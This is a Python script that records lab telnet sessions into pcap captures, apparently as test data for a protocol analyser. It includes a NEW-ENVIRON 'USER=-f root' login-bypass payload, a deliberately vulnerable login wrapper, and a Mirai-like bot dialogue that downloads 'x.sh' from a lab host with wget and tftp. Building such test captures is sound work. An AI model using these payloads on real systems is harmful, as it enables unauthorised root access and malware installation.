"""Record real telnet sessions for captures/sessions/: `record_telnet.py OUTDIR [NAME...]`, as root.

Servers and clients are Debian's; who types, and what, stands here. Times and sequence numbers are
those of the day: a new recording differs from the last one in its octets, not in its story.
What the clients showed goes to OUTDIR/NAME.screens, to write the truth from; it is not kept.
"""

from __future__ import annotations

import os
import sys
from collections.abc import Callable
from pathlib import Path

import record_lab
from record_lab import SERVER_ADDRESS, Line, Screen, next_port, recording, serving

TELNETD = ("/usr/sbin/telnetd", "-h")
"""`-h`: it does not tell of the kernel that the recording was made on."""
BUSYBOX = ("busybox", "telnetd", "-i", "-l")
FIRST_PORT = 53_001
SHELL = r"\$ $"

Recorder = Callable[["Take"], None]
RECORDERS: dict[str, Recorder] = {}


class Take:
    """One capture being recorded: which port comes next, what the screens showed."""

    def __init__(self, folder: Path, name: str) -> None:
        self.path = folder / f"{name}.pcap"
        self.screens = folder / f"{name}.screens"
        self.port = FIRST_PORT
        self.shown: list[str] = []

    def telnet(self, *options: str, term: str = "xterm") -> Screen:
        """The telnet client on a terminal, from the next port."""
        self.from_next_port()
        return Screen("telnet", *options, SERVER_ADDRESS, term=term)

    def from_next_port(self) -> int:
        """The port that the next connection comes from."""
        next_port(self.port)
        self.port += 1
        return self.port - 1

    def line(self) -> Line:
        """A bare connection from the next port."""
        return Line(self.from_next_port())

    def keep(self, client: Screen | Line) -> None:
        """Close a client and keep what it showed."""
        if isinstance(client, Screen):
            shown = client.close()
        else:
            client.read(1.0, refuse=False)
            client.socket.close()
            shown = repr(client.seen)
        self.show(shown)

    def show(self, shown: str) -> None:
        """Keep what the last connection showed."""
        self.shown.append(f"== {self.port - 1}\n{shown}\n")
        self.screens.write_text("\n".join(self.shown), encoding="utf-8")


def recorder(name: str) -> Callable[[Recorder], Recorder]:
    """Enter a function as the recorder of a capture."""

    def enter(function: Recorder) -> Recorder:
        RECORDERS[name] = function
        return function

    return enter


def log_in(t: Screen, user: str, password: str, answer: str = SHELL) -> None:
    """Name and password at the prompts; wait for the answer."""
    t.wait("login: $")
    t.line(user, "Password: ?$")
    t.line(password, answer)


@recorder("inetutils_character")
def inetutils_character(take: Take) -> None:
    """inetutils on both sides, a character a segment."""
    with serving(*TELNETD), recording(take.path):
        t = take.telnet()
        log_in(t, "petra", "Hollow&Reed-1")
        t.line("id -un", SHELL)
        t.line("grep -c failed notes", SHELL)
        t.line("exit")
        take.keep(t)
        t = take.telnet()
        log_in(t, "petra", "Hollow&Reed-91", "Login incorrect")
        log_in(t, "petra", "Hollow&Reed-1")
        t.line("exit")
        take.keep(t)
        t = take.telnet()
        log_in(t, "nobodyhere", "Hollow&Reed-92", "Login incorrect")
        t.wait("login: $")
        take.keep(t)
        t = take.telnet()
        for number in range(93, 98):
            t.wait("login: $")
            t.line("niklas", "Password: ?$")
            t.line(f"Hollow&Reed-{number}")
            t.wait("incorrect|exceeded")
        t.read(6)
        take.keep(t)


@recorder("inetutils_editing")
def inetutils_editing(take: Take) -> None:
    """Keys that rub out, in name, password and commands; texts that are not ASCII; interrupts."""
    with serving(*TELNETD), recording(take.path):
        t = take.telnet()
        t.wait("login: $")
        t.type("petz\x7fra")
        t.line("", "Password: ?$")
        t.type("nonsense\x15Hollow&Reez\x7fd-1")
        t.line("", SHELL)
        t.type("\x7f\x7f\x7fecho ottes\x7f\x7f\x7fter")
        t.line("", SHELL)
        t.type("rm -rf /nothing\x15")
        t.line("echo kept", SHELL)
        t.type("echo one two\x17")
        t.line("three", SHELL)
        t.line("echo Äpfel äß", SHELL)
        t.type("echo brüh\x7f\x7f")
        t.line("o", SHELL)
        t.type("echo dropped\x03")
        t.wait(SHELL)
        t.line("sleep 60")
        t.read(0.8)
        t.type("\x03")
        t.wait(SHELL)
        t.type("cat not\t")
        t.line("", SHELL)
        t.type("\x1b[A\x1b[A\x1b[A")
        t.read(0.5)
        t.line("", SHELL)
        t.type("\x04")
        take.keep(t)


@recorder("inetutils_lines")
def inetutils_lines(take: Take) -> None:
    """Whole lines: a server that asks for LINEMODE, a client set to lines, bare sockets."""
    with recording(take.path):
        with serving(*TELNETD, "-l"):
            t = take.telnet()
            log_in(t, "petra", "Hollow&Reed-1")
            t.line("echo by lines", SHELL)
            t.line("exit")
            take.keep(t)
        with serving(*TELNETD):
            bare = take.line()
            bare.wait(b"login: ")
            bare.send(b"petra\r\n")
            bare.wait(b"Password: ")
            bare.send(b"Hollow&Reed-98\r\n")
            bare.wait(b"login: ")
            bare.send(b"petra\r\n")
            bare.wait(b"Password: ")
            bare.send(b"Hollow&Reed-1\r\n")
            bare.wait(b"$ ")
            bare.send(b"echo from a socket\r\n")
            bare.wait(b"$ ")
            bare.send(b"exit\r\n")
            take.keep(bare)
            script = take.line()
            script.send(b"petra\r\nHollow&Reed-1\r\necho typed ahead\r\nexit\r\n")
            script.read(4)
            take.keep(script)
            script = take.line()
            script.wait(b"login: ")
            script.send(b"petra\r\nHollow&Reed-1\r\necho typed after\r\nexit\r\n")
            script.read(4)
            take.keep(script)
            script = take.line()
            script.read(1)
            for text, seconds in ((b"petra\n", 1), (b"Hollow&Reed-1\n", 2), (b"id -un\nexit\n", 2)):
                script.send(text)
                script.read(seconds)
            take.keep(script)


@recorder("inetutils_second_logins")
def inetutils_second_logins(take: Take) -> None:
    """su and sudo, refused and granted; a password that must be changed; passwd."""
    with serving(*TELNETD), recording(take.path):
        t = take.telnet()
        log_in(t, "petra", "Hollow&Reed-1")
        t.line("su - niklas", "Password: ?$")
        t.line("Hollow&Reed-81", r"failure[\s\S]*\$ $")
        t.line("su - niklas", "Password: ?$")
        t.line("Hollow&Reed-2", SHELL)
        t.line("id -un", SHELL)
        t.line("exit", SHELL)
        if Path("/usr/bin/sudo").exists():
            t.line("sudo id -un", "password for petra: $")
            t.line("Hollow&Reed-82", "password for petra: $")
            t.line("Hollow&Reed-1", SHELL)
        t.line("su", "Password: ?$")
        t.line("Hollow&Reed-4", r"# $")
        t.line("id -u", r"# $")
        t.line("exit", SHELL)
        t.line("exit")
        take.keep(t)
        t = take.telnet()
        log_in(t, "renewal", "Hollow&Reed-3", "[Cc]urrent password: ?$")
        t.line("Hollow&Reed-3", "[Nn]ew password: ?$")
        t.line("Marzipan%Owl-31", "new password: ?$")
        t.line("Marzipan%Owl-31", SHELL)
        t.line("id -un", SHELL)
        t.line("passwd", "[Cc]urrent password: ?$")
        t.line("Marzipan%Owl-31", "[Nn]ew password: ?$")
        t.line("Marzipan%Owl-32", "new password: ?$")
        t.line("Marzipan%Owl-33", r"do not match[\s\S]*\$ $")
        t.line("exit")
        take.keep(t)


@recorder("inetutils_full_screen")
def inetutils_full_screen(take: Take) -> None:
    """Editor, pager and top; what is typed there is no command."""
    with serving(*TELNETD), recording(take.path):
        t = take.telnet()
        log_in(t, "petra", "Hollow&Reed-1")
        t.line("vi list")
        t.read(1.5)
        t.type("irm -rf everything\rsudo su\x1b")
        t.read(1.2)
        t.line(":wq", SHELL)
        t.line("less notes")
        t.read(1)
        t.type(" /rack\r")
        t.read(0.6)
        t.type("q")
        t.wait(SHELL)
        t.line("top -d 1")
        t.read(1.5)
        t.type("q")
        t.wait(SHELL)
        t.line("more notes")
        t.read(0.8)
        t.type(" q")
        t.read(0.5)
        t.line("clear", SHELL)
        t.line("exit")
        take.keep(t)


def environment(take: Take, data: bytes) -> None:
    """A bare client that will NEW-ENVIRON and answers with this when it is asked."""
    bare = take.line()
    bare.tells = {24: b"\x00xterm", 39: data}
    bare.read(3)
    bare.send(b"id -u\r\n")
    bare.read(2)
    take.keep(bare)


USER_IS_ROOT = b"\x00\x00USER\x01-f root"


@recorder("inetutils_environment")
def inetutils_environment(take: Take) -> None:
    """The account in the environment: ignored, accepted, and as an option for login."""
    with recording(take.path):
        with serving(*TELNETD):
            t = take.telnet("-l", "petra")
            log_in(t, "niklas", "Hollow&Reed-2")
            t.line("exit")
            take.keep(t)
            environment(take, USER_IS_ROOT)
        with serving(*TELNETD, "--accept-env=USER"):
            t = take.telnet("-l", "petra")
            t.wait("Password: ?$")
            t.line("Hollow&Reed-1", SHELL)
            t.line("id -un", SHELL)
            t.line("exit")
            take.keep(t)
            environment(take, USER_IS_ROOT)
            environment(take, b"\x00\x03USER\x01-froot")


@recorder("inetutils_careless")
def inetutils_careless(take: Take) -> None:
    """The exploit works where the server hands the variable to login without looking at it."""
    careless = Path("/mnt/careless-login")
    careless.write_text("#!/bin/sh\nexec /bin/login -p -h desk $USER\n", encoding="ascii")
    careless.chmod(0o755)
    with serving(*TELNETD, "--accept-env=USER", "-E", str(careless)), recording(take.path):
        environment(take, USER_IS_ROOT)
        t = take.telnet("-l", "petra")
        t.wait("Password: ?$")
        t.line("Hollow&Reed-1", SHELL)
        t.line("exit")
        take.keep(t)


@recorder("busybox")
def busybox(take: Take) -> None:
    """busybox: its telnetd with login, and without."""
    ash = Path("/mnt/ash")
    ash.write_text("#!/bin/sh\nexec busybox ash\n", encoding="ascii")
    ash.chmod(0o755)
    with recording(take.path):
        with serving(*BUSYBOX, "/bin/login"):
            t = take.telnet(term="vt100")
            log_in(t, "petra", "Hollow&Reed-71", "Login incorrect")
            log_in(t, "petra", "Hollow&Reed-1")
            t.line("echo cider", SHELL)
            t.line("exit")
            take.keep(t)
            bot = take.line()
            bot.send(b"root\r\nHollow&Reed-72\r\nenable\r\nsystem\r\nshell\r\nsh\r\n"
                     b"/bin/busybox ORCHID\r\n")  # fmt: skip
            bot.read(8)
            take.keep(bot)
            mirai_like(take)
        with serving(*BUSYBOX, "/bin/sh"):
            t = take.telnet()
            t.wait("# $")
            t.line("id -u", "# $")
            t.line("exit")
            take.keep(t)
        with serving(*BUSYBOX, "/mnt/ash"):
            t = take.telnet()
            t.wait("# ")
            t.line("ls /mnt", "# ")
            t.type("echo lost\x7f\x7fng")
            t.line("", "# ")
            t.line("exit")
            take.keep(t)


def mirai_like(take: Take) -> None:
    """The dialogue of a bot: each line when it is asked for, in one segment, no pause."""
    bot = take.line()
    bot.wait(b"\xff\xfd\x1f", refuse=False)
    bot.send(b"\xff\xfc\x01\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfd\x01\xff\xfd\x03")
    bot.wait(b"login: ", refuse=False)
    bot.send(b"root\r\n")
    bot.wait(b"assword: ", refuse=False)
    bot.send(b"Hollow&Reed-4\r\n")
    bot.wait(b"# ", refuse=False)
    for word in (b"enable", b"system", b"shell", b"sh", b"/bin/busybox ORCHID"):
        bot.send(word + b"\r\n")
        bot.wait(b"# ", refuse=False)
    bot.send(b"cd /tmp; wget http://10.77.0.9/x.sh; tftp -g -l x -r x 10.77.0.9\r\n")
    bot.wait(b"# ", refuse=False)
    bot.reset()
    take.show(repr(bot.seen))


@recorder("cut_short")
def cut_short(take: Take) -> None:
    """Reset between name and password, reset in a shell, a client that says nothing."""
    with serving(*TELNETD), recording(take.path):
        bare = take.line()
        bare.wait(b"login: ")
        bare.send(b"petra\r\n")
        bare.wait(b"Password: ")
        bare.reset()
        bare = take.line()
        bare.wait(b"login: ")
        bare.send(b"petra\r\n")
        bare.wait(b"Password: ")
        bare.send(b"Hollow&Reed-1\r\n")
        bare.wait(b"$ ")
        bare.send(b"echo before the end\r\n")
        bare.wait(b"$ ")
        bare.reset()
        bare = take.line()
        bare.wait(b"login: ")
        take.keep(bare)


@recorder("begun_late")
def begun_late(take: Take) -> None:
    """The capture begins in the middle of a session."""
    with serving(*TELNETD):
        t = take.telnet()
        log_in(t, "petra", "Hollow&Reed-1")
        with recording(take.path):
            t.line("echo late", SHELL)
            t.line("su - niklas", "Password: ?$")
            t.line("Hollow&Reed-2", SHELL)
            t.line("exit", SHELL)
            t.line("exit")
            take.keep(t)


@recorder("telnet_ssl")
def telnet_ssl(take: Take) -> None:
    """The server and client that know TLS, from their unpacked packages; without them, nothing."""
    packages = Path(os.environ.get("TELNET_SSL", "/nonexistent"))
    if not packages.is_dir():
        return
    record_lab.run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj",
                   "/CN=orchard", "-keyout", "/mnt/key.pem", "-out", "/mnt/cert.pem")  # fmt: skip
    server = (str(packages / "usr/sbin/in.telnetd"), "-h", "-L", "/bin/login", "-z",
              "cert=/mnt/cert.pem", "-z", "key=/mnt/key.pem")  # fmt: skip
    client = str(packages / "usr/bin/telnet-ssl")
    with recording(take.path):
        with serving(*server):
            t = take.telnet()
            log_in(t, "petra", "Hollow&Reed-1")
            t.line("id -un", SHELL)
            t.line("exit")
            take.keep(t)
            take.from_next_port()
            t = Screen(client, SERVER_ADDRESS)
            log_in(t, "petra", "Hollow&Reed-1")
            t.line("id -un", SHELL)
            t.line("exit")
            take.keep(t)
            take.from_next_port()
            t = Screen(client, "-z", "!ssl", "-l", "petra", SERVER_ADDRESS)
            t.wait("Password: ?$")
            t.line("Hollow&Reed-1", SHELL)
            t.line("exit")
            take.keep(t)
            environment(take, USER_IS_ROOT)
        with serving(*server, "-z", "ssl", port=992):
            take.from_next_port()
            t = Screen(client, "-z", "ssl", SERVER_ADDRESS, "992")
            log_in(t, "petra", "Hollow&Reed-1")
            t.line("exit")
            take.keep(t)


def main() -> int:
    """Record all captures, or those that are named, each in new namespaces."""
    arguments = sys.argv[1:]
    if not arguments:
        print(__doc__)
        return 2
    folder = Path(arguments[0]).resolve()
    if os.environ.get("RECORD_INSIDE") != "1":
        folder.mkdir(parents=True, exist_ok=True)
        here = str(Path(__file__).resolve())
        codes = [record_lab.start_inside(here, [str(folder), name])
                 for name in arguments[1:] or RECORDERS]  # fmt: skip
        return max(codes)
    record_lab.furnish()
    os.chdir("/")
    take = Take(folder, arguments[1])
    RECORDERS[arguments[1]](take)
    print(take.path, flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
